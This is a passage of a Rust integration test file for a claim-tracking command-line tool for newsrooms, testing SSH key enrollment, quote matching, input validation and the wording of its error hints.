    assert_eq!(csv.ok().lines().skip(1).count(), 2, "{}", csv.stdout);
    let spaced = w.path("spaced.bundle");
    w.run(
        Some("admin"),
        &["export", "C2 C1", "--out", spaced.to_str().unwrap()],
    )
    .ok();
    let a = w.run(
        Some("analyst"),
        &[
            "annotate",
            "C1",
            "--verdict",
            "disputed",
            "--contradicts",
            "C2 ",
        ],
    );
    assert_eq!(a.ok().trim(), "A2");
    // An empty item is still named, whatever the spaces.
    refused(
        &w,
        None,
        &["report", "C1, ,C2"],
        "error: an empty value (in a list: two commas in a row, or one at the end?) is not an id",
    );
}

/// A public key handed over as a line in a mail or a chat is enrolled
/// from standard input or from the line itself; a key whose comment is
/// ssh-keygen's default (`root@vm`) is not enrolled under it unless the
/// name is given, since the name is signed for good.
#[test]
fn a_key_is_enrolled_from_a_pasted_line_and_not_under_a_machine_account() {
    let w = Work::with_team();
    let made: serde_json::Value = serde_json::from_str(
        w.run(
            None,
            &[
                "--json",
                "key",
                "new",
                w.path("sami").to_str().unwrap(),
                "--no-passphrase",
                "--comment",
                "Sami Nasser",
            ],
        )
        .ok(),
    )
    .unwrap();
    // The two files written, by name (`public_key` is a key's text in
    // `key list`).
    assert_eq!(
        (&made["public_key_file"], &made["encrypted"]),
        (
            &serde_json::json!(w.path("sami.pub").to_str().unwrap()),
            &serde_json::json!(false)
        ),
        "{made}"
    );
    let line = std::fs::read_to_string(w.path("sami.pub")).unwrap();
    let r = w.run_with(
        Some("admin"),
        &[],
        &["key", "add", "-", "--role", "analyst"],
        Some(line.as_bytes()),
    );
    assert!(r.ok().starts_with("enrolled Sami Nasser ("), "{}", r.stdout);
    w.run(
        None,
        &[
            "key",
            "new",
            w.path("lina").to_str().unwrap(),
            "--no-passphrase",
            "--comment",
            "Lina Haddad",
        ],
    )
    .ok();
    let line = std::fs::read_to_string(w.path("lina.pub")).unwrap();
    let r = w.run(
        Some("admin"),
        &["key", "add", line.trim(), "--role", "auditor"],
    );
    assert!(r.ok().starts_with("enrolled Lina Haddad ("), "{}", r.stdout);
    commented_key(&w, "vm", "root@vm");
    refused(
        &w,
        Some("admin"),
        &["key", "add", w.path("vm.pub").to_str().unwrap(), "--role", "auditor"],
        "error: the key's comment `root@vm` reads as an account on a machine (ssh-keygen's default, user@host) or a mail address, not as a person's name, and the name is signed into the log for good (hint: give the name with --name \"…\"",
    );
    let r = w.run(
        Some("admin"),
        &[
            "key",
            "add",
            w.path("vm.pub").to_str().unwrap(),
            "--role",
            "auditor",
            "--name",
            "root@vm",
        ],
    );
    assert!(r.ok().starts_with("enrolled root@vm ("), "{}", r.stdout);
    // An apostrophe in the account is still an account (o'neil@laptop).
    commented_key(&w, "on", "o'neil@laptop");
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            w.path("on.pub").to_str().unwrap(),
            "--role",
            "auditor",
        ],
        "error: the key's comment `o'neil@laptop` reads as an account on a machine",
    );
    // A Windows domain account, and an account followed by a remark.
    for (file, comment) in [
        ("win", "CORP\\jdoe@LAPTOP-1"),
        ("lh", "root@localhost (work)"),
    ] {
        commented_key(&w, file, comment);
        let pubkey = format!("{file}.pub");
        refused(
            &w,
            Some("admin"),
            &[
                "key",
                "add",
                w.path(&pubkey).to_str().unwrap(),
                "--role",
                "auditor",
            ],
            "reads as an account on a machine",
        );
    }
    // A name with an address after it is a name.
    commented_key(&w, "rh", "Rana Haddad (desk@newsroom.example)");
    let r = w.run(
        Some("admin"),
        &[
            "key",
            "add",
            w.path("rh.pub").to_str().unwrap(),
            "--role",
            "auditor",
        ],
    );
    assert!(
        r.ok()
            .starts_with("enrolled Rana Haddad (desk@newsroom.example) ("),
        "{}",
        r.stdout
    );
}

/// A key whose .pub carries `comment`, as ssh-keygen's default comment
/// (`user@host`) gives it: `key new` refuses such a comment.
fn commented_key(w: &Work, file: &str, comment: &str) {
    let path = w.path(file);
    w.run(
        None,
        &[
            "key",
            "new",
            path.to_str().unwrap(),
            "--no-passphrase",
            "--comment",
            "x",
        ],
    )
    .ok();
    let pubfile = w.path(&format!("{file}.pub"));
    let line = std::fs::read_to_string(&pubfile).unwrap();
    let line = line.trim_end().strip_suffix(" x").unwrap();
    std::fs::write(&pubfile, format!("{line} {comment}\n")).unwrap();
}

/// `key new` refuses a comment `key add` would refuse as the key's name
/// (its printed next step failed); a .pub line whose fields are a tab or
/// two spaces apart is read as OpenSSH reads it; and a quoted `~/` is the
/// home directory for the key commands, as for `--key`.
#[test]
fn key_commands_take_what_openssh_and_the_shell_take() {
    let w = Work::with_team();
    let before = w.db_bytes();
    w.run(
        None,
        &["key", "new", w.path("uh").to_str().unwrap(), "--no-passphrase", "--comment", "rana@newsroom.example"],
    )
    .error("error: the comment `rana@newsroom.example` reads as an account on a machine or a mail address: `key add` takes the comment as the key's name, signed into the log for good, and would refuse it (hint: give the person's or desk's name");
    assert!(!w.path("uh").exists() && !w.path("uh.pub").exists());
    // Fields a tab and two spaces apart, as a mail or a chat leaves them.
    commented_key(&w, "tab", "Tab Key");
    let line = std::fs::read_to_string(w.path("tab.pub")).unwrap();
    let spaced = line.replacen(' ', "\t", 1).replacen(' ', "  ", 1);
    std::fs::write(w.path("tab.pub"), &spaced).unwrap();
    let r = w.run(
        Some("admin"),
        &[
            "key",
            "add",
            w.path("tab.pub").to_str().unwrap(),
            "--role",
            "analyst",
        ],
    );
    assert!(r.ok().starts_with("enrolled Tab Key ("), "{}", r.stdout);
    assert!(w.db_bytes() != before);
    // Two blanks between the type and the key: the comment is still the
    // name (it was the key's base64, signed into the log), and a line
    // with none has none.
    commented_key(&w, "sami", "Sami Nasser");
    let line = std::fs::read_to_string(w.path("sami.pub")).unwrap();
    std::fs::write(w.path("sami.pub"), line.replacen(' ', " \t ", 1)).unwrap();
    let r = w.run(
        Some("admin"),
        &[
            "key",
            "add",
            w.path("sami.pub").to_str().unwrap(),
            "--role",
            "analyst",
        ],
    );
    assert!(r.ok().starts_with("enrolled Sami Nasser ("), "{}", r.stdout);
    // Pasted from a mail with blank lines above it: the comment is read
    // from the key's own line, as ssh-keygen reads it (it was "no comment
    // to use as a name"; red team L #1).
    commented_key(&w, "pasted", "Lina Pasted");
    let line = std::fs::read_to_string(w.path("pasted.pub")).unwrap();
    let r = w.run_with(
        Some("admin"),
        &[],
        &["key", "add", "-", "--role", "analyst"],
        Some(format!("\n  \n{line}").as_bytes()),
    );
    assert!(r.ok().starts_with("enrolled Lina Pasted ("), "{}", r.stdout);
    // A comment that names nobody: no letter or digit.
    commented_key(&w, "marks", "!!!");
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            w.path("marks.pub").to_str().unwrap(),
            "--role",
            "analyst",
        ],
        "error: the name !!! holds no letter or digit (the name was taken from the key's comment)",
    );
    commented_key(&w, "bare", "x");
    let line = std::fs::read_to_string(w.path("bare.pub")).unwrap();
    let (kind, rest) = line.split_once(' ').unwrap();
    let b64 = rest.split_whitespace().next().unwrap();
    std::fs::write(w.path("bare.pub"), format!("{kind}\t\t{b64}\n")).unwrap();
    refused(
        &w,
        Some("admin"),
        &[
            "key",
            "add",
            w.path("bare.pub").to_str().unwrap(),
            "--role",
            "analyst",
        ],
        "error: the key has no comment to use as a name (hint: pass --name NAME)",
    );
    // `"~/keys/tilde"`, quoted, is under HOME.
    let home = w.path("home");
    std::fs::create_dir_all(home.join("keys")).unwrap();
    let env = [("HOME", home.to_str().unwrap())];
    w.run_with(
        None,
        &env,
        &[
            "key",
            "new",
            "~/keys/tilde",
            "--no-passphrase",
            "--comment",
            "Tilde Person",
        ],
        None,
    )
    .ok();
    assert!(home.join("keys/tilde.pub").exists());
    let r = w.run_with(
        Some("admin"),
        &env,
        &["key", "add", "~/keys/tilde.pub", "--role", "auditor"],
        None,
    );
    assert!(
        r.ok().starts_with("enrolled Tilde Person ("),
        "{}",
        r.stdout
    );
    let r = w.run_with(
        Some("admin"),
        &env,
        &["key", "revoke", "~/keys/tilde.pub", "--reason", "left"],
        None,
    );
    assert!(r.ok().contains("Tilde Person"), "{}", r.stdout);
}

/// `key revoke NAME` when every key of that name is revoked already says
/// so, rather than asking for a fingerprint that would only be told
/// "already revoked" in turn.
#[test]
fn revoking_a_name_whose_keys_are_all_revoked_says_so() {
    let w = Work::with_team();
    w.enroll("ana1", "analyst", "Ana Lyst");
    w.run(
        Some("admin"),
        &["key", "revoke", "Ana Lyst", "--reason", "laptop stolen"],
    )
    .ok();
    w.enroll("ana2", "analyst", "Ana Lyst");
    w.run(
        Some("admin"),
        &["key", "revoke", "Ana Lyst", "--reason", "left the desk"],
    )
    .ok();
    refused(
        &w,
        Some("admin"),
        &["key", "revoke", "ana lyst", "--reason", "again"],
        "error: every key named `ana lyst` is revoked already: SHA256:",
    );
}

/// `list` with nothing after it names the choices, and a singular
/// (`list claim`) is the plural.
#[test]
fn list_names_what_it_lists_and_takes_the_singular() {
    let w = Work::with_claims();
    w.run(None, &["list"]).error(
        "error: the following required arguments were not provided: <sources|claims|annotations|keys|speakers>",
    );
    assert_eq!(
        w.run(None, &["list", "claim"]).ok(),
        w.run(None, &["list", "claims"]).ok()
    );
    assert_eq!(
        w.run(None, &["list", "Source"]).ok(),
        w.run(None, &["list", "sources"]).ok()
    );
}

/// Each hyphen of a quote read as a line's end must be one in the source:
/// `re-creation` did find `recreation` because the source broke another
/// word (`well-` then `known`) in the same span, and `well-known` a
/// source's own `wellknown`, named "hyphens at line ends". And a quote
/// with a real compound (`cease-fire`) and one broken at a line's end
/// (`well-known`) was not found, all its hyphens being read alike. Found by
/// a red-team tester.
#[test]
fn each_hyphen_read_as_a_line_end_is_one_in_the_source() {
    let w = Work::with_claims();
    let s2 = w.source_from_stdin(
        "analyst",
        "report",
        "He said the recreation of the well-\nknown park was a wellknown figure's idea and the evacu-\nation followed.\n",
    );
    assert_eq!(s2, "S2");
    let s3 = w.source_from_stdin(
        "analyst",
        "report",
        "The cease-fire line, drawn by the well-\nknown monitor, held.\n",
    );
    assert_eq!(s3, "S3");
    let on = |s: &str, q: &str| w.claim_on(s, &["--quote", q], "Witnesses", "interview");
    let before = w.db_bytes();
    for q in [
        "the re-creation of the well-known park",
        "a well-known figure's idea and the evacuation",
    ] {
        let r = on("S2", q);
        r.error("error: the quote does not occur in S2");
        assert!(!r.stderr.contains("hyphens at line ends"), "{}", r.stderr);
        assert!(!r.stderr.contains("instead of --quote"), "{}", r.stderr);
    }
    on("S3", "The cease-fire line, drawn by the well-known monitor").error(
        "error: the quote does not occur in S3 as given, but with other hyphens at line ends it does, at line 1 col 1 (bytes 0..53): `The cease-fire line, drawn by the well-\\nknown monitor` (hint: to claim the source's own text, use --span 0..53 instead of --quote)",
    );
    on("S3", "cease-fire line, drawn by the well- known monitor")
        .error("at line 1 col 5 (bytes 4..53)");
    // The real hyphen is not set aside for the other.
    let r = on("S3", "The ceasefire line, drawn by the well-known monitor");
    r.error("error: the quote does not occur in S3");
    assert!(!r.stderr.contains("--span 0..53"), "{}", r.stderr);
    assert!(w.db_bytes() == before, "a near match recorded something");
}

/// A disk that is full (here a file size limit, which fails writes the
/// same way) when verify needs the -shm file beside a cleanly closed log:
/// SQLite's "disk I/O error" is the system's failure, exit 2 with the
/// disk's hint, as every other command says. verify called it a damaged
/// or altered header (exit 1) and advised restoring a backup, or, with
/// commits in the -wal, moving the -wal aside, which drops them.
#[test]
fn verify_on_a_full_disk_says_the_disk_not_a_damaged_log() {
    let w = Work::with_claims();
    // A cleanly closed log: no -shm beside it, so verify must make one.
    let shm = std::path::PathBuf::from(format!("{}-shm", w.db.display()));
    assert!(!shm.exists());
    let before = w.db_bytes();
    let mut c = w.std_command(None, &[], &["verify"]);
    limit_file_size(&mut c, 0);
    let out = c.output().unwrap();
    let (stdout, stderr) = (
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr),
    );
    assert_eq!(out.status.code(), Some(2), "{stdout}{stderr}");
    assert!(stdout.is_empty(), "{stdout}");
    assert!(
        stderr.starts_with("error: database error: disk I/O error (hint: the system refused to read or write the log's file: check the disk it is on (free space, quota")
            && stderr.lines().count() == 1
            && !stderr.contains("damaged"),
        "{stderr}"
    );
    assert!(before == w.db_bytes());
    // With room, the same log verifies.
    assert!(w
        .run(None, &["verify"])
        .ok()
        .contains("OK: no problems found"));
}

/// The PDF or Word file a desk was sent, given as a source: said to be
/// one, with how to get its text. It was read as text in a legacy
/// encoding, and the hint's `iconv` made a "UTF-8" file of garbage that
/// `source add` would then sign for good.
#[test]
fn a_pdf_or_word_file_is_not_taken_for_text_in_another_encoding() {
    let w = Work::with_claims();
    std::fs::write(
        w.path("report.pdf"),
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", "report.pdf", "--kind", "report"],
        "error: report.pdf is a PDF document, not text (hint: extract its text first (`pdftotext -enc UTF-8 report.pdf report.pdf.txt`), check the text against the original, then give report.pdf.txt)",
    );
    std::fs::write(
        w.path("memo.docx"),
        b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00\xdf\xa4",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", "memo.docx", "--kind", "statement"],
        "error: memo.docx is a ZIP archive (a Word .docx, OpenDocument .odt or EPUB file is one), not text (hint: save its text from the program that opens it as plain text, UTF-8 (as memo.docx.txt), check it against the original, then give memo.docx.txt)",
    );
    let before = w.db_bytes();
    w.run_with(
        Some("analyst"),
        &[],
        &["source", "add", "-", "--kind", "report"],
        Some(b"%PDF-1.7\n\x00\x01binary"),
    )
    .error("error: standard input is a PDF document, not text (hint: extract its text first (`pdftotext -enc UTF-8 FILE -`) and check it against the original)");
    assert!(before == w.db_bytes());
    // In an import, the hint names the copy as the line's "file".
    std::fs::create_dir(w.path("in")).unwrap();
    std::fs::write(w.path("in/scan.pdf"), b"%PDF-1.5\n%\xb5\xb5\xb5\xb5\n").unwrap();
    std::fs::write(
        w.path("in/lines.jsonl"),
        "{\"type\":\"source\",\"file\":\"scan.pdf\",\"kind\":\"report\"}\n",
    )
    .unwrap();
    let r = w.run(Some("analyst"), &["import", "in/lines.jsonl"]);
    r.error("error: line 1: in/scan.pdf is a PDF document, not text (hint: extract its text first (`pdftotext -enc UTF-8 in/scan.pdf in/scan.pdf.txt`), check the text against the original, then");
    assert!(before == w.db_bytes());
}

/// A command run where the log is not (a new shell lost CLAIMTRAIL_DB, or
/// a `cd`): the directory looked in is said, and a log beside it is
/// offered before `init`, which would make a second, empty log.
#[test]
fn a_log_not_found_names_the_directory_and_the_log_beside_it() {
    let w = Work::with_claims();
    std::fs::copy(&w.db, w.path("desk.db")).unwrap();
    let dir = w.dir.path().canonicalize().unwrap();
    let r = w.run(None, &["--db", "nope.db", "status"]);
    r.error(&format!(
        "error: no claimtrail database at nope.db in {} (hint: this directory holds desk.db, trail.db: give --db desk.db, or `export CLAIMTRAIL_DB=\"$PWD/desk.db\"` (a full path, which a `cd` does not change; a new shell needs it set again); `claimtrail --db nope.db init` would make another, empty log)",
        dir.display()
    ));
    assert!(!w.path("nope.db").exists());
    // A -wal or a text file named .db is no log to offer.
    let empty = Work::new();
    std::fs::write(empty.path("notes.db"), "not a log").unwrap();
    empty
        .run(None, &["--db", "x.db", "list", "claims"])
        .error("(hint: run `claimtrail --db x.db init --origin NAME --key KEY` first, or point --db / CLAIMTRAIL_DB at an existing log)");
}

/// Quotation marks and dashes a word processor or chat app made
/// typographic, pasted into a command: a name wrapped in them is refused
/// (the marks were signed into the name), and the shell's splitting of a
/// value in `“…”` or a `—db` are said as such (clap named the next word,
/// or the usage).
#[test]
fn typographic_quotes_and_dashes_are_named() {
    let w = Work::with_claims();
    std::fs::write(
        w.path("wire.txt"),
        "Dispatch 9. Shelling resumed at dawn.\n",
    )
    .unwrap();
    refused(
        &w,
        Some("analyst"),
        &["claim", "add", "--source", "S1", "--quote", "Seven civilians", "--speaker", "“UNICEF”", "--provenance", "statement"],
        "error: the speaker \"“UNICEF”\" is wrapped in quotation marks, which would be signed as part of the name (hint: give the speaker without them, \"UNICEF\" (a word processor or chat app may have turned \"…\" into “…”, which the shell keeps))",
    );
    refused(
        &w,
        Some("analyst"),
        &[
            "source",
            "add",
            "wire.txt",
            "--kind",
            "article",
            "--publisher",
            "«Al-Monitor»",
        ],
        "error: the publisher \"«Al-Monitor»\" is wrapped in quotation marks",
    );
    refused(
        &w,
        Some("analyst"),
        &["source", "add", FIXTURE, "--kind", "article", "--title", "“Russia", "resumes", "bombing”"],
        "error: unexpected argument 'resumes' found (hint: `“Russia` begins with a typographic quotation mark, which the shell does not read as a quote, so the words after it were taken as more arguments: type the quotes as \"…\")",
    );
    refused(
        &w,
        None,
        &["—db", "x.db", "status"],
        "error: unrecognized subcommand '—db' (hint: `—db` begins with a long dash (—), not two hyphens: type --db (a word processor or chat app may have turned -- into —))",
    );
    refused(
        &w,
        Some("analyst"),
        &["source", "add", FIXTURE, "–kind", "article"],
        "(hint: `–kind` begins with a long dash (–), not two hyphens: type --kind",
    );
    // A name with a quoted part is a name.
    w.claim_on_s1(&["--quote", "Seven civilians"], "Abu “the doctor” Hamid")
        .ok();
}

/// `init` as a first-time user meets it: with no key yet, the hint says
/// how to make one; over a log already there, how to look at it or make
/// another elsewhere.
#[test]
fn init_hints_speak_to_a_first_time_user() {
    let w = Work::new();
    w.run(None, &["init", "--origin", "newsroom.example/a"]).error(
        "error: no signing key given: the log's first admin signs its first entry (hint: pass --key PATH (or set CLAIMTRAIL_KEY) to your OpenSSH ed25519 private key; `claimtrail key new PATH --comment \"Your Name\"` makes one)",
    );
    assert!(!w.db.exists());
    let w = Work::with_claims();
    refused(
        &w,
        Some("admin"),
        &["init", "--origin", "newsroom.example/b"],
        "already exists (hint: `claimtrail status` shows the log it holds; for a new log, give another path with --db PATH)",
    );
}

/// A cell the file was edited to hold as another type (an entry's payload
/// stored as text): the commands that read it say so in words and send to
/// verify, not rusqlite's "Invalid column type Text at index: 0, name:
/// payload".
#[test]
fn a_cell_of_another_type_is_said_in_words() {
    let w = Work::with_claims();
    w.sql("UPDATE entries SET payload = CAST(payload AS TEXT) WHERE seq = 3");
    let before = w.db_bytes();
    let r = w.run(None, &["log", "--seq", "3"]);
    r.error("error: database error: a table holds a value of a type no entry can imply: text in its column `payload`, which the file was edited to hold (hint: run `claimtrail verify`");
    assert!(!r.stderr.contains("Invalid column type"));
    assert!(before == w.db_bytes());
}

/// Nothing given where a bundle or a checkpoint was expected (an empty
/// pipe, a download that failed) is said to be empty, not "EOF while
/// parsing a value" or a missing blank line.
#[test]
fn an_empty_bundle_or_checkpoint_is_said_to_be_empty() {
    let w = Work::with_claims();
    w.run_with(None, &[], &["verify-bundle", "-"], Some(b""))
        .error("the bundle is empty (0 bytes)");
    std::fs::write(w.path("empty.txt"), "").unwrap();
    std::fs::write(w.path("blank.txt"), "\n\n").unwrap();
    let vkey = w.vkey();
    w.run(
        None,
        &["checkpoint", "verify", "empty.txt", "--vkey", &vkey],
    )
    .error("empty.txt: the file is empty (hint: ");
    w.run(
        None,
        &["checkpoint", "verify", "blank.txt", "--vkey", &vkey],
    )
    .error("blank.txt: the file is empty (only white space, 2 bytes)");
}

/// Words a desk uses for a value spelled otherwise here get a pointer
/// that no spelling distance finds: a wire is `news_agency`, and the
/// `retracted` that `list claims` shows in its VERDICT column is no verdict.
#[test]
fn everyday_words_for_values_point_to_what_is_meant() {
    let w = Work::with_claims();
    refused(
        &w,
        Some("analyst"),
        &["source", "add", "-", "--kind", "wire"],
        "did you mean `news_agency` (a news agency's wire copy)?",
    );
    refused(
        &w,
        None,
        &["list", "claims", "--verdict", "retracted"],
        "`claimtrail list claims --retracted` lists the retracted claims",
    );
}

/// A value that begins with `-` after an option that takes one: clap read
/// it as an option and said only "unexpected argument '-d' found" (red
/// team S, 4). The hint says how to give it; a flag before it gets none.
#[test]
fn a_value_that_begins_with_a_dash_is_explained() {
    let w = Work::with_claims();
    let r = w.run(None, &["--db", "-d.db", "status"]);
    r.error("unexpected argument '-d' found (hint: `-d.db` begins with '-', so it was read as an option, not as the value of --db: give it as --db=-d.db (or ./-d.db for a file))");
    let r = w.run(None, &["status", "--json", "-d"]);
    r.error("unexpected argument '-d' found");
    assert!(!r.stderr.contains("--json=-d"), "{}", r.stderr);
}

/// The same words twice, one of them with a no-break space or an accent
/// typed apart: a quote typed with a plain space (or composed) occurs once
/// byte for byte, and was signed there without a word, over the other
/// speaker's sentence (red team A, F1). The analyst is asked which one.
#[test]
fn a_quote_that_reads_the_same_at_another_place_is_asked_about() {
    let w = Work::with_claims();
    let s = w.source_from_stdin(
        "analyst",
        "article",
        "The ministry said seven\u{a0}civilians were killed in Idlib on Friday.\n\
         The White Helmets said seven civilians were killed in Idlib on Friday.\n",
    );
    let quote = "seven civilians were killed in Idlib on Friday";
    let before = w.db_bytes();
    let asked = format!(
        "the quote reads the same at 2 places in {s}, which differ only in what a reader does \
         not see: 1: line 1 col 19 (bytes 18..65), with other spacing; 2: line 2 col 24 (bytes \
         90..136), as typed (hint: claim the one you mean by its span (--span 18..65 for 1, \
         --span 90..136 for 2); --occurrence counts copies byte for byte only)"
    );
    w.claim_on(&s, &["--quote", quote], "The ministry", "statement")
        .error(&asked);
    // `--occurrence` counts copies byte for byte, not the places the
    // analyst sees: refused as well, whatever it says.
    for k in ["1", "2"] {
        w.claim_on(
            &s,
            &["--quote", quote, "--occurrence", k],
            "The ministry",
            "statement",
        )
        .error(&asked);
    }
    assert!(before == w.db_bytes(), "nothing was signed");
    // Each of the two, as the hint says.
    let ministry = w.claim_on(&s, &["--span", "18..65"], "The ministry", "statement");
    let helmets = w.claim_on(&s, &["--span", "90..136"], "The White Helmets", "statement");
    let (ministry, helmets) = (ministry.ok().trim(), helmets.ok().trim());
    assert!(w
        .run(None, &["show", ministry])
        .ok()
        .contains("The ministry said [seven"));
    assert!(w
        .run(None, &["show", helmets])
        .ok()
        .contains("Helmets said [seven"));
    // Three lines alike, two of them byte for byte: `--occurrence 2` took
    // the third line (red team D, D1); all three are named.
    let s3 = w.source_from_stdin(
        "analyst",
        "article",
        "A said seven died.\nB said seven\u{a0}died.\nC said seven died.\n",
    );
    w.claim_on(
        &s3,
        &["--quote", "seven died", "--occurrence", "2"],
        "B",
        "other",
    )
    .error(&format!(
        "the quote reads the same at 3 places in {s3}, which differ only in what a reader \
             does not see: 1: line 1 col 8 (bytes 7..17), as typed; 2: line 2 col 8 (bytes \
             26..37), with other spacing; 3: line 3 col 8 (bytes 46..56), as typed"
    ));
    // An import line is asked the same, in its own words.
    let import = w.path("claims.jsonl");
    let line = format!(
        r#"{{"type":"claim","source":"{s}","quote":"{quote}","speaker":"X","provenance":"other"}}"#
    );
    std::fs::write(&import, line + "\n").unwrap();
    let before = w.db_bytes();
    w.run(Some("analyst"), &["import", import.to_str().unwrap()]).error(
        "(hint: claim the one you mean by its span (\"span\": \"18..65\" for 1, \"span\": \
         \"90..136\" for 2); \"occurrence\" counts copies byte for byte only; nothing was imported)",
    );
    assert!(before == w.db_bytes());
    // What a reader sees is not set aside: letter case, a superscript
    // (`10²` is not `102`), a line break.
    let s2 = w.source_from_stdin(
        "analyst",
        "article",
        "Seven died. He said seven died.\nIt was 10\u{b2} people. Then 102 people fled.\nthe road\nis open; the road is open.\n",
    );
    for q in ["seven died", "102 people", "the road is open"] {
        w.claim_on(&s2, &["--quote", q], "X", "other").ok();
    }
}
